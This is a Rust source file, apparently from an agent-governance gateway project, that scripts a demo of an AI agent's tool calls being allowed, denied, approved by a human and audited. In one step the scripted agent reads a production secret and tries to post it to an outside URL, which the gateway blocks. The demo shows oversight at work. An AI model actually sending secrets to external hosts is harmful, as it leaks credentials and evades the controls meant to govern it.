@@ -1,0 +1,305 @@
+//! `tollgate demo`: the reference scenario, run by a scripted agent through
+//! the MCP gateway against the example tool server, in one command and a
+//! temporary directory. Everything is real: the server, the decisions, the
+//! audit log, the tool server's state file; only the agent and the approver
+//! are scripted.
+
+use crate::client::Client;
+use crate::Conn;
+use anyhow::{bail, Context, Result};
+use rmcp::model::{CallToolRequestParams, CallToolResult};
+use rmcp::service::RunningService;
+use rmcp::transport::streamable_http_client::StreamableHttpClientTransportConfig;
+use rmcp::{RoleClient, ServiceExt};
+use serde_json::{json, Map, Value};
+use std::path::{Path, PathBuf};
+use std::sync::Arc;
+
+const AGENT: &str = "spiffe://acme.test/agent/ir-responder/demo-1";
+
+fn text(r: &CallToolResult) -> String {
+    r.content
+        .iter()
+        .filter_map(|c| c.as_text().map(|t| t.text.clone()))
+        .collect::<Vec<_>>()
+        .join(" ")
+}
+
+fn short(s: &str) -> String {
+    let one: String = s.split_whitespace().collect::<Vec<_>>().join(" ");
+    if one.chars().count() > 160 {
+        format!("{}…", one.chars().take(160).collect::<String>())
+    } else {
+        one
+    }
+}
+
+fn args(v: Value) -> Map<String, Value> {
+    match v {
+        Value::Object(m) => m,
+        _ => Map::new(),
+    }
+}
+
+struct Demo {
+    mcp: RunningService<RoleClient, ()>,
+    world: PathBuf,
+}
+
+impl Demo {
+    async fn call(&self, step: &str, tool: &str, a: Value) -> Result<CallToolResult> {
+        println!("\n{step}\n  agent → tools/call {tool} {a}");
+        let r = self
+            .mcp
+            .call_tool(CallToolRequestParams::new(tool.to_string()).with_arguments(args(a)))
+            .await
+            .with_context(|| format!("tools/call {tool}"))?;
+        let verdict = if r.is_error == Some(true) {
+            "refused"
+        } else {
+            "done"
+        };
+        println!("  tollgate ← {verdict}: {}", short(&text(&r)));
+        Ok(r)
+    }
+
+    fn world(&self) -> Result<Value> {
+        Ok(serde_json::from_str(&std::fs::read_to_string(
+            &self.world,
+        )?)?)
+    }
+
+    fn show(&self, what: &str, pointer: &str) -> Result<()> {
+        println!(
+            "  state file: {what} = {}",
+            self.world()?
+                .pointer(pointer)
+                .cloned()
+                .unwrap_or(Value::Null)
+        );
+        Ok(())
+    }
+}
+
+fn write_config(dir: &Path) -> Result<(PathBuf, PathBuf, PathBuf)> {
+    let config = dir.join("config");
+    let data = dir.join("data");
+    crate::write_example(&config)?;
+    let token_file = config.join("ir-tools.token");
+    let token = tollgate_server::state::random_token("irt_");
+    std::fs::write(&token_file, format!("{token}\n"))?;
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt;
+        std::fs::set_permissions(&token_file, std::fs::Permissions::from_mode(0o600))?;
+    }
+    let world = dir.join("ir-world.json");
+    let mut yaml = std::fs::read_to_string(config.join("tollgate.yaml"))?;
+    yaml.push_str(&format!(
+        "mcp:\n  progress_every_seconds: 1\n  upstreams:\n    - name: ir-tools\n      stdio:\n        command: tollgate\n        args: [tools, example, --state, {}, --token-file, {}]\n        env:\n          IR_TOOLS_TOKEN: {{file: ir-tools.token}}\n",
+        serde_json::to_string(&world.display().to_string())?,
+        serde_json::to_string(&token_file.display().to_string())?,
+    ));
+    std::fs::write(config.join("tollgate.yaml"), yaml)?;
+    Ok((config, data, world))
+}
+
+pub fn run(keep: Option<PathBuf>) -> Result<()> {
+    let tmp;
+    let dir = match keep {
+        Some(d) => {
+            if d.exists() {
+                bail!("{} exists; give a new directory", d.display());
+            }
+            std::fs::create_dir_all(&d)?;
+            d
+        }
+        None => {
+            tmp = tempfile::tempdir()?;
+            tmp.path().to_path_buf()
+        }
+    };
+    let (config, data, world) = write_config(&dir)?;
+    let rt = tokio::runtime::Builder::new_multi_thread()
+        .worker_threads(2)
+        .enable_all()
+        .build()?;
+    // The server, in this process, on a free port.
+    let addr = rt.block_on(async {
+        let opts = tollgate_server::Options {
+            config_dir: Some(config.clone()),
+            data_dir: data.clone(),
+        };
+        let state =
+            tollgate_server::AppState::open(&opts, Arc::new(tollgate_core::SystemClock)).await?;
+        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await?;
+        let addr = listener.local_addr()?;
+        tokio::spawn(tollgate_server::serve(
+            state,
+            listener,
+            std::future::pending(),
+        ));
+        anyhow::Ok(format!("http://{addr}"))
+    })?;
+    println!("Tollgate demo: the reference scenario through the MCP gateway");
+    println!(
+        "  gateway  {addr}/mcp   (config {}, data {})",
+        config.display(),
+        data.display()
+    );
+    println!(
+        "  tools    `tollgate tools example` on stdio, acting on {}",
+        world.display()
+    );
+    let admin = Client::new(&Conn {
+        addr: addr.clone(),
+        token: None,
+        data: Some(data.clone()),
+    })?;
+    scenario(&rt, &admin, &addr, &world)?;
+    println!(
+        "\nEverything above is in the audit log and the tool server's state file under {}.\n\
+         Keep them with `tollgate demo --dir DIR`, then `tollgate serve --config DIR/config --data DIR/data`\n\
+         and `TOLLGATE_DATA=DIR/data tollgate audit timeline --incident INC-4711`.",
+        dir.display()
+    );
+    Ok(())
+}
+
+fn scenario(rt: &tokio::runtime::Runtime, admin: &Client, addr: &str, world: &Path) -> Result<()> {
+    let as_agent = |token: &str| {
+        Client::new(&Conn {
+            addr: addr.to_string(),
+            token: Some(token.to_string()),
+            data: None,
+        })
+    };
+    // Identity and task (REST, as in the walkthrough).
+    let reg = admin.post(
+        "/v1/agents",
+        &json!({"spiffe_id": AGENT, "owner": "alice@acme.test"}),
+    )?;
+    let svid = as_agent("")?.post_anonymous(
+        "/v1/agents/attest",
+        &json!({"join_token": reg["join_token"]}),
+    )?;
+    let svid = svid["svid"].as_str().context("no svid")?.to_string();
+    let task = as_agent(&svid)?.post(
+        "/v1/tasks",
+        &json!({"incident": {"id": "INC-4711", "class": "malware", "severity": "high"},
+                "environment": "prod", "playbook": "contain-malware",
+                "intent": "contain the beacon on web-1"}),
+    )?;
+    let task_id = task["task_id"].as_str().context("no task id")?.to_string();
+    let cred = task["credential"]
+        .as_str()
+        .context("no credential")?
+        .to_string();
+    println!("\n1. Agent {AGENT} attests and opens {task_id} on INC-4711 (malware, high)");
+    let approver = admin.post(
+        "/v1/approvers",
+        &json!({"name": "ivan@acme.test", "role": "identity"}),
+    )?;
+    let approver_key = approver["key"]
+        .as_str()
+        .context("no approver key")?
+        .to_string();
+
+    rt.block_on(async {
+        let config = StreamableHttpClientTransportConfig::with_uri(format!("{addr}/mcp"))
+            .auth_header(cred.clone());
+        let mcp = ()
+            .serve(rmcp::transport::StreamableHttpClientTransport::from_config(config))
+            .await
+            .context("MCP handshake with the gateway")?;
+        let demo = Demo {
+            mcp,
+            world: world.to_path_buf(),
+        };
+        let tools = demo.mcp.list_all_tools().await?;
+        let mut names: Vec<&str> = tools.iter().map(|t| t.name.as_ref()).collect();
+        names.sort();
+        println!("\n2. tools/list offers this task {} tools: {}", names.len(), names.join(", "));
+
+        demo.call("3. Investigate: read the EDR alerts (read tier: allowed)", "edr_read_alerts", json!({"host": "web-1"})).await?;
+        demo.call("4. Contain before evidence: denied by `contain-with-evidence`", "edr_isolate_host", json!({"host": "web-1", "reason": "beacon to 203.0.113.7"})).await?;
+        demo.show("web-1 isolated", "/hosts/web-1/isolated")?;
+        let content = "pid 4242 beacon.exe -> 203.0.113.7:443";
+        as_agent(&cred)?.post(
+            &format!("/v1/tasks/{task_id}/evidence"),
+            &json!({"resource": {"type": "Host", "id": "web-1"}, "kind": "process-list",
+                    "sha256": tollgate_core::sha256_hex(content.as_bytes()), "content": content}),
+        )?;
+        println!("\n   (the agent records evidence for web-1: a process list)");
+        let isolated = demo.call("5. Contain with evidence: allowed, forwarded, recorded", "edr_isolate_host", json!({"host": "web-1", "reason": "beacon to 203.0.113.7"})).await?;
+        demo.show("web-1 isolated", "/hosts/web-1/isolated")?;
+
+        println!("\n6. Disable the compromised account: needs one human approval; the call is held open");
+        println!("  agent → tools/call iam_disable_account {{\"account\":\"jdoe\"}}");
+        let held = {
+            let peer = demo.mcp.peer().clone();
+            tokio::spawn(async move {
+                peer.call_tool(CallToolRequestParams::new("iam_disable_account").with_arguments(args(
+                    json!({"account": "jdoe", "reason": "jdoe's session launched the beacon"}),
+                )))
+                .await
+            })
+        };
+        let approval_id = loop {
+            let pending = Client::new(&Conn { addr: addr.to_string(), token: Some(approver_key.clone()), data: None })?
+                .get("/v1/approvals?status=pending")?;
+            if let Some(id) = pending["approvals"][0]["id"].as_str() {
+                break id.to_string();
+            }
+            tokio::time::sleep(std::time::Duration::from_millis(100)).await;
+        };
+        tokio::time::sleep(std::time::Duration::from_secs(2)).await;
+        println!("  (held: approval {approval_id} pending; jdoe enabled = {})", demo.world()?["accounts"]["jdoe"]["enabled"]);
+        Client::new(&Conn { addr: addr.to_string(), token: Some(approver_key.clone()), data: None })?.post(
+            &format!("/v1/approvals/{approval_id}/decision"),
+            &json!({"approve": true, "reason": "confirmed with the account owner"}),
+        )?;
+        println!("  approver ivan@acme.test approves (`tollgate approvals approve {approval_id}`)");
+        let r = held.await??;
+        println!("  tollgate ← {}: {}", if r.is_error == Some(true) { "refused" } else { "done" }, short(&text(&r)));
+        demo.show("jdoe enabled", "/accounts/jdoe/enabled")?;
+
+        let isolate_request = isolated
+            .meta
+            .as_ref()
+            .and_then(|m| m.0.get("tollgate/request_id"))
+            .and_then(Value::as_str)
+            .unwrap_or_default()
+            .to_string();
+        demo.call("7. Roll back the isolation through the gateway (its compensation, decided and audited)", "tollgate_rollback", json!({"request_id": isolate_request})).await?;
+        demo.show("web-1 isolated", "/hosts/web-1/isolated")?;
+
+        demo.call("8. Read a secret (allowed for responders)", "vault_read_secret", json!({"secret": "prod-db"})).await?;
+        demo.call("9. Then post data outside: denied by the chain rule `no-egress-after-secret-read`, which revokes the task", "http_post", json!({"url": "https://example.org/upload", "body": "db-password-v1"})).await?;
+        demo.show("posts sent", "/posts")?;
+        println!("\n10. The revoked credential is refused on the next request:");
+        match demo.mcp.call_tool(CallToolRequestParams::new("edr_read_alerts").with_arguments(args(json!({"host": "web-1"})))).await {
+            Ok(r) => bail!("a revoked task still got an answer: {}", text(&r)),
+            Err(e) => {
+                tracing::debug!(error = %e, "refused as expected");
+                println!("  tollgate ← refused with HTTP 401 before any decision: the task was revoked");
+            }
+        }
+        anyhow::Ok(())
+    })?;
+
+    let head = admin.get("/healthz")?;
+    let cp = admin.get("/v1/audit/checkpoint")?;
+    println!(
+        "\nAudit: {} entries, hash-chained; newest signed checkpoint covers {} (root {}…).",
+        head["audit_entries"],
+        cp["checkpoint"]["tree_size"],
+        cp["checkpoint"]["root_hash"]
+            .as_str()
+            .unwrap_or_default()
+            .chars()
+            .take(16)
+            .collect::<String>()
+    );
+    Ok(())
+}
